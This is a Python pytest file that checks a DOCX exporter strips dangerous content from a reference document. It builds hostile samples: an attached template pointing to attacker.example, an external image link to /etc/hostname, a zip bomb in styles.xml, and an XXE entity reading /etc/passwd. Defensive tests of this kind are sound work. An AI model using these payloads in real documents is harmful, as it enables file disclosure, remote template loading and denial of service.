"""--reference-doc contributes styles, numbering and theme only (issue 18 item 7)."""

from __future__ import annotations

import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import docx
import pytest

from policy_studio.io.writers.docx import write_docx
from policy_studio.layout.options import ExportOptions, Layout
from policy_studio.model import Policy, PolicyStudioError

EXTERNAL_TEMPLATE = "http://attacker.example/template.dotm"
EXTERNAL_IMAGE = "file:///etc/hostname"


def _rewrite(source: Path, target: Path, changes: dict[str, bytes]) -> None:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            new.writestr(item.filename, changes.pop(item.filename, old.read(item.filename)))
        for name, data in changes.items():
            new.writestr(name, data)


def _hostile_reference(tmp_path: Path) -> Path:
    """A reference whose settings attach an external template and whose body links an image."""
    plain = docx.Document()
    plain.styles["Title"].font.size = docx.shared.Pt(33)
    plain.add_paragraph("Body text of the reference that must not travel.")
    base = tmp_path / "plain.docx"
    plain.save(str(base))
    with zipfile.ZipFile(base) as package:
        settings = package.read("word/settings.xml").decode("utf-8")
        rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
        theme = package.read("word/theme/theme1.xml").decode("utf-8")
    settings = re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="{EXTERNAL_TEMPLATE}" TargetMode="External"/>'
        "</Relationships>"
    )
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/image" Target="{EXTERNAL_IMAGE}" TargetMode="External"/></Relationships>',
    )
    theme = re.sub(r'<a:theme ([^>]*)name="[^"]*"', r'<a:theme \1name="Reference Theme"', theme)
    ref = tmp_path / "hostile-ref.docx"
    _rewrite(
        base,
        ref,
        {
            "word/settings.xml": settings.encode("utf-8"),
            "word/_rels/settings.xml.rels": settings_rels.encode("utf-8"),
            "word/_rels/document.xml.rels": rels.encode("utf-8"),
            "word/theme/theme1.xml": theme.encode("utf-8"),
        },
    )
    return ref


def _export(policy: Policy, tmp_path: Path, reference: Path) -> Path:
    out = tmp_path / "out.docx"
    write_docx(policy, out, ExportOptions(["en"], layout=Layout.SINGLE, reference_doc=reference))
    return out


def test_external_relationships_of_a_reference_never_reach_the_export(
    export_policy: Policy, tmp_path: Path
) -> None:
    out = _export(export_policy, tmp_path, _hostile_reference(tmp_path))
    with zipfile.ZipFile(out) as package:
        names = package.namelist()
        everything = "".join(package.read(n).decode("utf-8", "replace") for n in names)
        settings = package.read("word/settings.xml").decode("utf-8")
        theme = package.read("word/theme/theme1.xml").decode("utf-8")
    external = re.findall(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", everything)
    # Only the policy's own links (http/https/mailto hyperlinks) point outside the package.
    assert external and all("/relationships/hyperlink" in rel for rel in external)
    assert all(re.search(r'Target="(https?://|mailto:)', rel) for rel in external)
    assert EXTERNAL_TEMPLATE not in everything and EXTERNAL_IMAGE not in everything
    assert "attachedTemplate" not in settings
    assert "must not travel" not in everything
    assert 'name="Reference Theme"' in theme  # the theme is taken
    document = docx.Document(str(out))
    assert document.styles["Title"].font.size == docx.shared.Pt(33)  # and the styles


def test_a_styles_bomb_is_refused_before_it_is_inflated(
    export_policy: Policy, tmp_path: Path
) -> None:
    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))
    with zipfile.ZipFile(plain) as package:
        styles = package.read("word/styles.xml")
    padding = b"<!--" + b" " * 60_000_000 + b"-->"
    bomb = tmp_path / "bomb.docx"
    _rewrite(plain, bomb, {"word/styles.xml": styles.replace(b"?>", b"?>" + padding, 1)})
    assert bomb.stat().st_size < 1_000_000
    tracemalloc.start()
    start = time.perf_counter()
    try:
        with pytest.raises(PolicyStudioError, match="bomb.docx.*zip bomb"):
            _export(export_policy, tmp_path, bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - start < 5
    assert peak < 60_000_000
    assert not (tmp_path / "out.docx").exists()


def test_a_reference_with_a_doctype_is_refused(export_policy: Policy, tmp_path: Path) -> None:
    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))
    with zipfile.ZipFile(plain) as package:
        styles = package.read("word/styles.xml")
    evil = styles.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
    ref = tmp_path / "evil.docx"
    _rewrite(plain, ref, {"word/styles.xml": evil})
    with pytest.raises(PolicyStudioError, match="evil.docx.*DOCTYPE"):
        _export(export_policy, tmp_path, ref)
